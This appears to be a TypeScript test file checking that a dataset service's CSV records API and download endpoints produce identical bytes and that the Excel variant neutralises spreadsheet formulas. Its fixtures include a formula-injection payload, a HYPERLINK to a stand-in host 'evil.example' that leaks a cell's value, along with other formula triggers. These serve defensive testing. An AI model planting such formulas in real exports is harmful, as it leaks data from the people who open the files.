// One CSV writer for the downloads and the records API: the same rows give the same bytes, and the
// Excel variant (bom=1) neutralises formulas in records exactly as data.csv?bom=1 does.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { createTestApp } from './helpers.js';
import { developer } from './records.helpers.js';
import { loadCatalog } from '../datasets/index.js';
import { commitVersion, writeRowsTable } from '../src/versions/versions.service.js';
import { rowsTableName, type Row } from '../src/versions/rows/rows-table.js';
import type { FieldSpec } from '../src/lib/field-spec.js';
import { allRows, queryRow, queryValue } from './support/db-query.js';

const dataset = loadCatalog().datasets.find((d) => d.open_type === 'open' && d.rows < 500 && d.fields.filter((f) => f.type === 'string' && !f.primary_key).length >= 2)!;
const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', 'plain, "quoted"\r\nnext line', ''];

let t: Awaited<ReturnType<typeof createTestApp>>;
let headers: Record<string, string>;
let n: number;
let text: FieldSpec;

beforeAll(async () => {
  t = await createTestApp({ datasets: [dataset.id] });
  headers = (await developer(t.app)).headers;
  // A new version whose first rows carry formulas (and quotes, commas, line breaks, an empty string) in a text field.
  const pk = (await queryValue(t.db, 'SELECT pk FROM datasets WHERE id = ?', dataset.id)) as number;
  const last = (await queryRow(t.db, "SELECT n, schema FROM versions WHERE dataset_pk = ? AND status = 'published' ORDER BY n DESC LIMIT 1", pk)) as { n: number; schema: string };
  const schema = JSON.parse(last.schema) as FieldSpec[];
  text = schema.find((f) => f.type === 'string' && !f.primary_key)!;
  const rows: Row[] = (await allRows(t.db, rowsTableName(pk, last.n), schema)).map((r, i) => (i < formulas.length ? { ...r, [text.name]: formulas[i]! } : r));
  n = last.n + 1;
  const count = await writeRowsTable(t.db, pk, n, schema, rows);
  await commitVersion(t.db, pk, { n, schema, publishedAt: new Date().toISOString(), changeNote: '公式测试', rowCount: count, diff: null, artifacts: {} });
});
afterAll(() => t.close());

const bytes = async (url: string, extra: Record<string, string> = {}) => {
  const res = await t.app.request(url, { headers: { ...headers, ...extra } });
  expect(res.status, url).toBe(200);
  return Buffer.from(await res.arrayBuffer());
};
const column = (csv: Buffer, name: string) => Papa.parse<Record<string, string>>(csv.toString('utf8').replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data.map((r) => r[name]);

describe('records CSV and download CSV', () => {
  it('bom=1: the records stream is byte for byte data.csv?bom=1, formulas neutralised', async () => {
    const download = await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/data.csv?bom=1`);
    const records = await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/records?format=csv&bom=1&limit=all`);
    expect(records.equals(download)).toBe(true);
    // The Excel variant is headed by the Chinese labels (issue 16), as data.csv?bom=1 of a version built now.
    const cells = column(records, text.label_zh).slice(0, formulas.length);
    expect(cells).toEqual(['\'=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tTAB", "'\rCR", 'plain, "quoted"\r\nnext line', '']);
  });

  it('without bom: the same bytes as data.csv, values exact (a program reads them)', async () => {
    const download = await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/data.csv`);
    const records = await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/records?limit=all`, { accept: 'text/csv' });
    expect(records.equals(download)).toBe(true);
    expect(column(records, text.name).slice(0, formulas.length)).toEqual(formulas);
  });

  it('a CSV page quotes like the download (only where needed) and neutralises with bom=1', async () => {
    const download = (await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/data.csv?bom=1`)).toString('utf8');
    const page = (await bytes(`/api/v1/datasets/${dataset.id}/versions/${n}/records?format=csv&bom=1&limit=20`)).toString('utf8');
    expect(download.startsWith(page)).toBe(true);
    expect(page).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""点我"")"');
    expect(page).toContain(",'+1+1,");
  });
});
